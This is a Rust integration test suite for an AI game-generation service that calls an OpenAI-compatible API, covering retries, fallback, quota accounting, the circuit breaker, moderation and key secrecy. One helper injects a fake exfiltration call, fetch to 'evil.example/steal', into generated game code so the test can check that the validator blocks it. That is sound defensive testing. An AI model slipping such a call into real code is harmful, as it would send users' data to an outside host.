//! The OpenAI route end to end against a fake OpenAI-compatible server on loopback: routing and
//! its reasons, retries and fallbacks, the repair loop, the quota ledger under concurrency, the
//! circuit breaker, the moderation endpoint, and that the key never leaks.

use std::process::Command;
use std::time::{Duration, Instant};

use aimini_models::quota::{self, Ask, Reservation};
use aimini_models::storage::{ObjectKey, Storage};
use aimini_tests::fake_openai::{API_KEY, Behavior, FakeOpenAi, fixture_package};
use aimini_tests::{TestApp, TestUser, assert_error, worker_binary};
use serde_json::{Value, json};

/// Not simple by any rule: long, no simple words, no template named.
const HARD_PROMPT: &str =
    "a platformer where a cat collects stars while avoiding dogs on moving clouds";
use aimini_tests::fake_openai::MODEL;

async fn app_with(fake: &FakeOpenAi, extra: &[(&str, &str)]) -> TestApp {
    fake.spawn_app(extra).await
}

async fn submit(app: &TestApp, user: &TestUser, body: Value) -> reqwest::Response {
    app.client
        .post(app.url("/api/v1/ai/generate-game"))
        .bearer_auth(&user.access_token)
        .json(&body)
        .send()
        .await
        .expect("request")
}

async fn generate(app: &TestApp, user: &TestUser, body: Value) -> Value {
    app.generate_and_wait(&user.access_token, &body).await
}

fn reason(done: &Value) -> &str {
    done["route_reason"].as_str().expect("route_reason")
}

/// (status, charged, total) of a request's ledger rows.
async fn ledger(app: &TestApp, request_id: &str) -> Vec<(String, i32, i32, String)> {
    sqlx::query_as(
        "SELECT status, charged_tokens, total_tokens, purpose FROM ai_token_usage
         WHERE request_id = $1::uuid ORDER BY id",
    )
    .bind(request_id)
    .fetch_all(&app.db)
    .await
    .expect("ledger")
}

/// Waits until the game's automatic review is decided; returns (moderation status, game status,
/// details).
async fn review_of(app: &TestApp, game_id: &str) -> (String, String, String) {
    let deadline = tokio::time::Instant::now() + Duration::from_secs(20);
    loop {
        let row: (String, String, Option<String>) = sqlx::query_as(
            "SELECT m.status, g.status, m.details FROM content_moderation m JOIN games g ON g.id = m.content_id
             WHERE g.id = $1::uuid",
        )
        .bind(game_id)
        .fetch_one(&app.db)
        .await
        .expect("review");
        if row.0 != "pending" {
            return (row.0, row.1, row.2.unwrap_or_default());
        }
        assert!(tokio::time::Instant::now() < deadline, "review not decided");
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
}

#[tokio::test]
async fn the_openai_route_makes_a_game_with_tokens_recorded_and_the_package_in_s3() {
    let fake = FakeOpenAi::start().await;
    let app = app_with(&fake, &[]).await;
    let _worker = app.start_worker().await;
    let user = app.register("oai_maker").await;

    let done = generate(&app, &user, json!({"prompt": HARD_PROMPT})).await;
    assert_eq!(done["engine"], "openai", "{done}");
    assert_eq!(done["model"], MODEL);
    assert_eq!(done["tokens_used"], 420, "fake usage 120 + 300: {done}");
    let why = reason(&done);
    assert!(
        why.contains("no template fits the prompt closely; OpenAI writes it")
            && why.contains("written by the model"),
        "{why}"
    );

    // What went over the wire: the key, a strict json_schema, the capped output, the prompt as data.
    let sent = fake.chat_requests();
    assert_eq!(sent.len(), 1);
    let req = &sent[0];
    assert_eq!(
        req.authorization.as_deref(),
        Some(format!("Bearer {API_KEY}").as_str())
    );
    assert_eq!(req.body["model"], MODEL);
    assert_eq!(req.body["response_format"]["type"], "json_schema");
    assert_eq!(req.body["response_format"]["json_schema"]["strict"], true);
    let max = req.body["max_completion_tokens"]
        .as_u64()
        .expect("max_completion_tokens");
    assert!((800..=3000).contains(&max), "{max}");
    let messages = req.body["messages"].as_array().expect("messages");
    assert_eq!(messages[0]["role"], "system");
    assert!(
        messages[0]["content"]
            .as_str()
            .is_some_and(|s| s.contains("aimini game runtime API") && s.contains("untrusted"))
    );
    assert_eq!(messages[1]["role"], "user");
    let user_msg = messages[1]["content"].as_str().expect("user content");
    assert!(
        user_msg.contains(&format!(
            "<user_request>\n\"{HARD_PROMPT}\"\n</user_request>"
        )),
        "{user_msg}"
    );

    // The game: metadata shaped like every package, no template, the fixture's code in S3.
    let game_id = done["result_game_id"].as_str().expect("game");
    let (category, data): (String, Value) =
        sqlx::query_as("SELECT category, game_data FROM games WHERE id = $1::uuid")
            .bind(game_id)
            .fetch_one(&app.db)
            .await
            .expect("game row");
    assert_eq!(category, "action");
    let meta = &data["metadata"];
    assert_eq!(meta["title"], "Yarn Catcher");
    assert_eq!(meta["runtime"], "aimini-runtime/1");
    assert_eq!(meta["schema_version"], 1);
    assert!(meta.get("template").is_none_or(Value::is_null), "{meta}");
    assert_eq!(meta["engine"], json!({"name": "openai", "model": MODEL}));
    let storage = Storage::connect(&app.config.storage)
        .await
        .expect("storage");
    let key = ObjectKey::new(data["files"]["logic.js"]["key"].as_str().expect("key")).expect("key");
    let logic = storage
        .get(&key)
        .await
        .expect("get")
        .expect("logic.js in S3");
    assert_eq!(
        String::from_utf8_lossy(&logic.bytes),
        fixture_package()["logic_js"]
            .as_str()
            .expect("fixture code")
    );

    // The ledger: one settled row with the real usage.
    let rows = ledger(&app, done["id"].as_str().expect("id")).await;
    assert_eq!(
        rows,
        vec![("settled".to_owned(), 420, 420, "generate".to_owned())]
    );

    // Moderation asked the endpoint too (texts and the code's strings), and approved.
    let (status, game_status, details) = review_of(&app, game_id).await;
    assert_eq!(
        (status.as_str(), game_status.as_str()),
        ("approved", "active"),
        "{details}"
    );
    let moderation = fake.moderation_requests();
    assert_eq!(moderation.len(), 1);
    assert_eq!(moderation[0].body["model"], "omni-moderation-latest");
    let inputs = moderation[0].body["input"].to_string();
    assert!(
        inputs.contains("Yarn Catcher") && inputs.contains("Misses: "),
        "{inputs}"
    );
}

#[tokio::test]
async fn server_errors_are_retried_then_fall_back_to_local_with_the_reason() {
    let fake = FakeOpenAi::start().await;
    fake.script([Behavior::server_error()]);
    let app = app_with(&fake, &[]).await;
    let _worker = app.start_worker().await;
    let user = app.register("oai_500").await;

    let done = generate(&app, &user, json!({"prompt": HARD_PROMPT})).await;
    assert_eq!(done["engine"], "local", "{done}");
    assert_eq!(done["model"], "template-rules");
    let why = reason(&done);
    assert!(
        why.contains("openai failed: 500 server error after 3 tries; fell back to local"),
        "{why}"
    );
    assert_eq!(fake.chat_requests().len(), 3, "1 try + 2 retries");
    assert_eq!(done["tokens_used"], 0);
    let rows = ledger(&app, done["id"].as_str().expect("id")).await;
    assert_eq!(rows.len(), 1);
    assert_eq!(rows[0].0, "released", "{rows:?}");
    assert_eq!(rows[0].1, 0);
}

#[tokio::test]
async fn rate_limits_honour_retry_after_then_fall_back() {
    let fake = FakeOpenAi::start().await;
    fake.script([Behavior::rate_limited(1)]);
    let app = app_with(&fake, &[("AIMINI_OPENAI_MAX_RETRIES", "1")]).await;
    let _worker = app.start_worker().await;
    let user = app.register("oai_429").await;

    let started = Instant::now();
    let done = generate(&app, &user, json!({"prompt": HARD_PROMPT})).await;
    assert_eq!(done["engine"], "local", "{done}");
    assert!(
        reason(&done).contains("openai failed: 429 rate limited after 2 tries; fell back to local"),
        "{}",
        reason(&done)
    );
    assert_eq!(fake.chat_requests().len(), 2);
    assert!(
        started.elapsed() >= Duration::from_secs(1),
        "waited for Retry-After"
    );

    // A 429 then a success: the retry succeeds and the game is OpenAI's.
    fake.script([Behavior::rate_limited(1), Behavior::game()]);
    let done = generate(&app, &user, json!({"prompt": HARD_PROMPT})).await;
    assert_eq!(done["engine"], "openai", "{done}");
}

#[tokio::test]
async fn timeouts_fall_back_to_local() {
    let fake = FakeOpenAi::start().await;
    fake.script([Behavior::Slow(Duration::from_secs(3))]);
    let app = app_with(
        &fake,
        &[
            ("AIMINI_OPENAI_TIMEOUT_SECS", "1"),
            ("AIMINI_OPENAI_MAX_RETRIES", "0"),
        ],
    )
    .await;
    let _worker = app.start_worker().await;
    let user = app.register("oai_slow").await;

    let done = generate(&app, &user, json!({"prompt": HARD_PROMPT})).await;
    assert_eq!(done["engine"], "local", "{done}");
    assert!(
        reason(&done).contains("openai failed: timed out after 1 s; fell back to local"),
        "{}",
        reason(&done)
    );
}

fn blocked_package() -> Value {
    let mut pkg = fixture_package();
    let code = pkg["logic_js"].as_str().expect("code").replace(
        "    misses = 0;\n",
        "    misses = 0;\n    fetch(\"https://evil.example/steal\");\n",
    );
    pkg["logic_js"] = json!(code);
    pkg
}

#[tokio::test]
async fn a_blocked_api_package_is_repaired_once() {
    let fake = FakeOpenAi::start().await;
    fake.script([Behavior::game_with(blocked_package()), Behavior::game()]);
    let app = app_with(&fake, &[]).await;
    let _worker = app.start_worker().await;
    let user = app.register("oai_repair").await;

    let done = generate(&app, &user, json!({"prompt": HARD_PROMPT})).await;
    assert_eq!(done["engine"], "openai", "{done}");
    assert_eq!(done["tokens_used"], 840, "two calls of 420");
    let why = reason(&done);
    assert!(
        why.contains("repaired once after: logic_js:") && why.contains("fetch"),
        "{why}"
    );
    let sent = fake.chat_requests();
    assert_eq!(sent.len(), 2);
    // The repair call carries the rejected answer and its findings with their location.
    let messages = sent[1].body["messages"].as_array().expect("messages");
    assert_eq!(messages.len(), 4);
    assert_eq!(messages[2]["role"], "assistant");
    let findings = messages[3]["content"].as_str().expect("repair text");
    assert!(
        findings.contains("logic_js:13:5: `fetch` is not allowed (network access)"),
        "{findings}"
    );
    let purposes: Vec<String> = ledger(&app, done["id"].as_str().expect("id"))
        .await
        .into_iter()
        .map(|r| format!("{}:{}", r.3, r.0))
        .collect();
    assert_eq!(purposes, ["generate:settled", "repair:settled"]);
}

#[tokio::test]
async fn a_package_still_bad_after_the_repair_falls_back_to_a_template() {
    let fake = FakeOpenAi::start().await;
    fake.script([Behavior::game_with(blocked_package())]);
    let app = app_with(&fake, &[]).await;
    let _worker = app.start_worker().await;
    let user = app.register("oai_twice").await;

    let done = generate(&app, &user, json!({"prompt": HARD_PROMPT})).await;
    assert_eq!(done["engine"], "local", "{done}");
    let why = reason(&done);
    assert!(
        why.contains("openai package rejected twice") && why.contains("fell back to local"),
        "{why}"
    );
    assert_eq!(fake.chat_requests().len(), 2, "one repair only");
    assert_eq!(done["tokens_used"], 840, "the spent tokens still count");
    let game_id = done["result_game_id"].as_str().expect("game");
    let data: Value = sqlx::query_scalar("SELECT game_data FROM games WHERE id = $1::uuid")
        .bind(game_id)
        .fetch_one(&app.db)
        .await
        .expect("game");
    assert!(data["metadata"]["template"]["id"].is_string(), "{data}");
}

#[tokio::test]
async fn an_exhausted_budget_routes_auto_local_and_refuses_explicit_openai_with_402() {
    let fake = FakeOpenAi::start().await;
    let app = app_with(&fake, &[("AIMINI_QUOTA_FREE_TOKENS", "5000")]).await;
    let _worker = app.start_worker().await;
    let user = app.register("oai_broke").await;
    sqlx::query(
        "INSERT INTO ai_token_usage (user_id, engine, model, prompt_tokens, completion_tokens)
         VALUES ($1, 'openai', 'gpt-fake-1', 3000, 1500)",
    )
    .bind(user.id)
    .execute(&app.db)
    .await
    .expect("spend");

    let done = generate(&app, &user, json!({"prompt": HARD_PROMPT})).await;
    assert_eq!(done["engine"], "local", "{done}");
    assert!(
        reason(&done).contains("monthly OpenAI budget used: 4500 of 5000 tokens"),
        "{}",
        reason(&done)
    );

    let resp = submit(
        &app,
        &user,
        json!({"prompt": HARD_PROMPT, "engine": "openai"}),
    )
    .await;
    let body = assert_error(resp, 402, "quota_exceeded").await;
    assert!(
        body["error"]["message"]
            .as_str()
            .is_some_and(|m| m.contains("4500 of 5000 tokens")),
        "{body}"
    );
    assert!(fake.chat_requests().is_empty(), "OpenAI never called");

    // A premium user has the premium budget.
    let rich = app.user_with_role("oai_rich", "premium").await;
    let done = generate(
        &app,
        &rich,
        json!({"prompt": HARD_PROMPT, "engine": "openai"}),
    )
    .await;
    assert_eq!(done["engine"], "openai", "{done}");
    assert!(reason(&done).starts_with("openai engine requested"));
}

/// Accounts are free to make, the OpenAI budget is real money: an account gets its budget once its
/// address is verified. Until then `auto` plays locally and an explicit `openai` is refused clearly.
#[tokio::test]
async fn an_unverified_account_has_no_openai_budget_until_it_verifies() {
    let fake = FakeOpenAi::start().await;
    let app = app_with(&fake, &[]).await;
    let _worker = app.start_worker().await;
    let user = app.register_unverified("oai_fresh").await;

    let done = generate(&app, &user, json!({"prompt": HARD_PROMPT})).await;
    assert_eq!(done["engine"], "local", "{done}");
    let resp = submit(
        &app,
        &user,
        json!({"prompt": HARD_PROMPT, "engine": "openai"}),
    )
    .await;
    let body = assert_error(resp, 403, "email_not_verified").await;
    assert!(
        body["error"]["message"]
            .as_str()
            .is_some_and(|m| m.contains("verify")),
        "{body}"
    );
    assert!(fake.chat_requests().is_empty(), "OpenAI never called");

    // Verified through the mailed link: the budget is there.
    let token = aimini_tests::link_token(&app.mail_to(&user.email, "email_verification").await);
    let verified = app
        .post_json(
            "/api/v1/auth/verify-email",
            &json!({"token": token, "password": aimini_tests::PASSWORD}),
        )
        .await;
    assert_eq!(verified.status(), 204);
    let done = generate(
        &app,
        &user,
        json!({"prompt": HARD_PROMPT, "engine": "openai"}),
    )
    .await;
    assert_eq!(done["engine"], "openai", "{done}");
}

#[tokio::test]
async fn concurrent_reservations_of_one_user_never_overspend() {
    let fake = FakeOpenAi::start().await;
    let app = app_with(&fake, &[("AIMINI_QUOTA_FREE_TOKENS", "20000")]).await;
    let user = app.register("oai_race").await;
    // Requests for the ledger's foreign key.
    let mut ids = Vec::new();
    for i in 0..24 {
        let id: uuid::Uuid = sqlx::query_scalar(
            "INSERT INTO ai_generation_requests (user_id, prompt) VALUES ($1, $2) RETURNING id",
        )
        .bind(user.id)
        .bind(format!("race {i}"))
        .fetch_one(&app.db)
        .await
        .expect("request");
        ids.push(id);
    }
    let quotas = app.config.quotas;
    let tasks: Vec<_> = ids
        .iter()
        .map(|id| {
            let db = app.db.clone();
            let id = *id;
            tokio::spawn(async move {
                quota::reserve(
                    &db,
                    Ask {
                        user_id: user.id,
                        request_id: id,
                        purpose: "generate",
                        model: MODEL,
                        prompt_estimate: 1500,
                        max_output: 2000,
                        min_output: 800,
                    },
                    &quotas,
                )
                .await
                .expect("reserve")
            })
        })
        .collect();
    let mut granted = 0i64;
    let mut refused = 0;
    for t in tasks {
        match t.await.expect("task") {
            Reservation::Granted { reserved, .. } => granted += reserved,
            Reservation::Exhausted(_) => refused += 1,
        }
    }
    assert!(granted <= 20_000, "reserved {granted} of 20000");
    assert!(
        granted >= 20_000 - 2_300,
        "the budget is used, not wasted: {granted}"
    );
    assert!(refused > 0);
    let held: i64 = sqlx::query_scalar(
        "SELECT COALESCE(SUM(charged_tokens), 0)::bigint FROM ai_token_usage WHERE user_id = $1",
    )
    .bind(user.id)
    .fetch_one(&app.db)
    .await
    .expect("sum");
    assert_eq!(held, granted);
    // The same request reserving again (a re-delivered job) replaces its row, never adds one.
    let again = quota::reserve(
        &app.db,
        Ask {
            user_id: user.id,
            request_id: ids[0],
            purpose: "generate",
            model: MODEL,
            prompt_estimate: 1500,
            max_output: 2000,
            min_output: 800,
        },
        &quotas,
    )
    .await
    .expect("reserve again");
    let rows: i64 = sqlx::query_scalar("SELECT count(*) FROM ai_token_usage WHERE request_id = $1")
        .bind(ids[0])
        .fetch_one(&app.db)
        .await
        .expect("count");
    assert_eq!(rows, 1, "{again:?}");
}

#[tokio::test]
async fn concurrent_jobs_of_one_user_never_overspend_the_budget() {
    let fake = FakeOpenAi::start().await;
    // A model that uses every token it is allowed, slowly, so jobs overlap.
    let greedy = Behavior::Answer {
        package: fixture_package(),
        prompt_tokens: 1500,
        completion_tokens: u32::MAX,
        delay: Duration::from_millis(300),
    };
    fake.script([greedy]);
    let budget = 16_000;
    let app = app_with(
        &fake,
        &[
            ("AIMINI_QUOTA_FREE_TOKENS", "16000"),
            ("AIMINI_OPENAI_MAX_OUTPUT_TOKENS", "2000"),
        ],
    )
    .await;
    let _w1 = app.start_worker().await;
    let _w2 = app.start_worker().await;
    let user = app.register("oai_greedy").await;
    let mut ids = Vec::new();
    for i in 0..8 {
        let resp = submit(
            &app,
            &user,
            json!({"prompt": format!("{HARD_PROMPT}, version {i}")}),
        )
        .await;
        assert_eq!(resp.status(), 202);
        ids.push(
            resp.json::<Value>().await.expect("json")["id"]
                .as_str()
                .expect("id")
                .to_owned(),
        );
    }
    let mut openai = 0;
    let mut local = 0;
    for id in &ids {
        let done = app.wait_generation(&user.access_token, id).await;
        assert_eq!(done["status"], "completed", "{done}");
        match done["engine"].as_str() {
            Some("openai") => openai += 1,
            _ => {
                assert!(reason(&done).contains("budget used"), "{}", reason(&done));
                local += 1;
            }
        }
    }
    let (charged, actual): (i64, i64) = sqlx::query_as(
        "SELECT COALESCE(SUM(charged_tokens), 0)::bigint, COALESCE(SUM(total_tokens), 0)::bigint
         FROM ai_token_usage WHERE user_id = $1",
    )
    .bind(user.id)
    .fetch_one(&app.db)
    .await
    .expect("sum");
    assert!(charged <= budget, "charged {charged} of {budget}");
    assert!(
        actual <= budget,
        "the provider's own count {actual} of {budget}"
    );
    assert!(openai >= 1 && local >= 1, "openai {openai}, local {local}");
    // Every call's output was capped to what its reservation left.
    for r in fake.chat_requests() {
        assert!(r.body["max_completion_tokens"].as_u64().unwrap_or(u64::MAX) <= 2000);
    }
}

#[tokio::test]
async fn the_breaker_opens_after_k_failures_and_later_jobs_skip_openai() {
    let fake = FakeOpenAi::start().await;
    fake.script([Behavior::server_error()]);
    let app = app_with(
        &fake,
        &[
            ("AIMINI_OPENAI_MAX_RETRIES", "0"),
            ("AIMINI_OPENAI_BREAKER_FAILURES", "2"),
            ("AIMINI_OPENAI_BREAKER_COOLDOWN_SECS", "60"),
        ],
    )
    .await;
    let _worker = app.start_worker().await;
    let user = app.register("oai_breaker").await;

    for i in 0..4 {
        let done = generate(
            &app,
            &user,
            json!({"prompt": format!("{HARD_PROMPT} #{i}")}),
        )
        .await;
        assert_eq!(done["engine"], "local", "{done}");
        let why = reason(&done);
        if i < 2 {
            assert!(why.contains("openai failed: 500 server error"), "{why}");
        } else {
            assert!(why.contains("the OpenAI circuit breaker is open"), "{why}");
        }
    }
    assert_eq!(
        fake.chat_requests().len(),
        2,
        "jobs after the 2nd skip OpenAI"
    );

    // Explicit openai while open: still local, and the reason says it was asked for.
    let done = generate(
        &app,
        &user,
        json!({"prompt": HARD_PROMPT, "engine": "openai"}),
    )
    .await;
    assert_eq!(done["engine"], "local");
    assert!(
        reason(&done).starts_with("openai requested, but the OpenAI circuit breaker is open"),
        "{}",
        reason(&done)
    );
}

#[tokio::test]
async fn simple_prompts_and_local_requests_never_reach_openai() {
    let fake = FakeOpenAi::start().await;
    let app = app_with(&fake, &[]).await;
    let _worker = app.start_worker().await;
    let user = app.register("oai_simple").await;
    let done = generate(&app, &user, json!({"prompt": "a quick snake game"})).await;
    assert_eq!(done["engine"], "local");
    assert!(reason(&done).contains("simple prompt"), "{}", reason(&done));
    let done = generate(
        &app,
        &user,
        json!({"prompt": HARD_PROMPT, "engine": "local"}),
    )
    .await;
    assert!(reason(&done).starts_with("local engine requested"));
    assert!(fake.chat_requests().is_empty());
}

#[tokio::test]
async fn a_flag_from_the_moderation_endpoint_keeps_the_game_private() {
    let fake = FakeOpenAi::start().await;
    fake.flag_moderation("yarn");
    let app = app_with(&fake, &[]).await;
    let _worker = app.start_worker().await;
    let user = app.register("oai_flagged").await;

    let done = generate(&app, &user, json!({"prompt": HARD_PROMPT})).await;
    let game_id = done["result_game_id"].as_str().expect("game");
    let (status, game_status, details) = review_of(&app, game_id).await;
    assert_eq!(status, "rejected", "{details}");
    assert_eq!(game_status, "moderated");
    assert!(
        details.contains("OpenAI moderation: title (violence)"),
        "{details}"
    );
    let verdict = app
        .get_auth(
            &format!("/api/v1/ai/generation/{}", done["id"].as_str().expect("id")),
            &user.access_token,
        )
        .await
        .json::<Value>()
        .await
        .expect("json");
    assert_eq!(verdict["moderation"], "rejected");
}

#[tokio::test]
async fn a_failing_moderation_endpoint_does_not_block_and_is_recorded() {
    let fake = FakeOpenAi::start().await;
    fake.fail_moderation();
    let app = app_with(&fake, &[]).await;
    let _worker = app.start_worker().await;
    let user = app.register("oai_modfail").await;

    let done = generate(&app, &user, json!({"prompt": HARD_PROMPT})).await;
    let game_id = done["result_game_id"].as_str().expect("game");
    let (status, _, details) = review_of(&app, game_id).await;
    assert_eq!(status, "approved", "{details}");
    assert!(
        details.contains("OpenAI moderation unavailable (503 server error); local filter only"),
        "{details}"
    );
}

#[tokio::test]
async fn the_key_never_appears_in_logs_responses_or_rows() {
    let fake = FakeOpenAi::start().await;
    // One good answer, then failures: both paths get logged.
    fake.script([Behavior::game(), Behavior::server_error()]);
    let app = app_with(&fake, &[("AIMINI_OPENAI_MAX_RETRIES", "0")]).await;
    let mut cmd = app.worker_command("oai-worker", &["run", "--queues", "generation,moderation"]);
    cmd.env("AIMINI_LOG", "debug");
    let log = std::env::temp_dir().join(format!("aimini-{}-oai-worker.log", app.db_name));
    let mut child = cmd.spawn().expect("spawn aimini-worker");
    let user = app.register("oai_secret").await;
    let mut bodies = Vec::new();
    for _ in 0..2 {
        let done = generate(&app, &user, json!({"prompt": HARD_PROMPT})).await;
        let game_id = done["result_game_id"].as_str().expect("game").to_owned();
        review_of(&app, &game_id).await;
        bodies.push(done.to_string());
    }
    let list = app
        .get_auth("/api/v1/ai/generations", &user.access_token)
        .await
        .text()
        .await
        .expect("list");
    bodies.push(list);
    let _ = child.kill();
    let _ = child.wait();
    let logs = std::fs::read_to_string(&log).expect("read log");
    assert!(
        logs.contains("OpenAI call answered") && logs.contains("OpenAI call failed"),
        "the worker logged both calls: {}",
        log.display()
    );
    let rows: Vec<(Option<String>, Option<String>)> =
        sqlx::query_as("SELECT route_reason, error_message FROM ai_generation_requests")
            .fetch_all(&app.db)
            .await
            .expect("rows");
    let details: Vec<Option<String>> = sqlx::query_scalar("SELECT details FROM content_moderation")
        .fetch_all(&app.db)
        .await
        .expect("details");
    let everything = format!("{logs}\n{bodies:?}\n{rows:?}\n{details:?}");
    assert!(
        !everything.contains(API_KEY) && !everything.contains("sk-test-fake"),
        "the key leaked (see {})",
        log.display()
    );
    // The prompt is data, not log material.
    assert!(!logs.contains(HARD_PROMPT), "the prompt was logged");
}

#[tokio::test]
async fn try_with_engine_openai_writes_the_models_game() {
    let fake = FakeOpenAi::start().await;
    let out =
        std::env::temp_dir().join(format!("aimini-try-oai-{}", uuid::Uuid::new_v4().simple()));
    let mut cmd = Command::new(worker_binary());
    cmd.args([
        "try",
        "a cat catching yarn",
        "--engine",
        "openai",
        "--json",
        "--out",
    ])
    .arg(&out)
    .env_clear()
    .env("PATH", std::env::var("PATH").unwrap_or_default())
    .env("AIMINI_PROMPTS_DIR", aimini_tests::prompts_dir())
    .env("AIMINI_LOCAL_MODEL", "false")
    .env("AIMINI_OPENAI_API_KEY", API_KEY)
    .env("AIMINI_OPENAI_BASE_URL", fake.url())
    .env("AIMINI_OPENAI_MODEL", MODEL)
    .env("AIMINI_OPENAI_TIMEOUT_SECS", "5")
    .env("AIMINI_JWT_SECRET", aimini_tests::JWT_SECRET);
    // Off the runtime: the fake server answers on this test's runtime meanwhile.
    let output = tokio::task::spawn_blocking(move || cmd.output())
        .await
        .expect("join")
        .expect("run try");
    let stdout = String::from_utf8_lossy(&output.stdout);
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(output.status.success(), "{stdout}\n{stderr}");
    assert!(!stdout.contains(API_KEY) && !stderr.contains(API_KEY));
    let report: Value = serde_json::from_str(&stdout).expect("json report");
    assert_eq!(report["engine"], "openai", "{report}");
    assert_eq!(report["model"], MODEL);
    assert_eq!(report["tokens_used"], 420);
    assert_eq!(report["title"], "Yarn Catcher");
    assert!(
        report["route_reason"]
            .as_str()
            .is_some_and(|r| r.starts_with("openai engine requested")),
        "{report}"
    );
    let metadata: Value =
        serde_json::from_slice(&std::fs::read(out.join("metadata.json")).expect("metadata"))
            .expect("json");
    assert_eq!(metadata["engine"]["name"], "openai");
    assert!(out.join("index.html").is_file());
    let _ = std::fs::remove_dir_all(out);
}
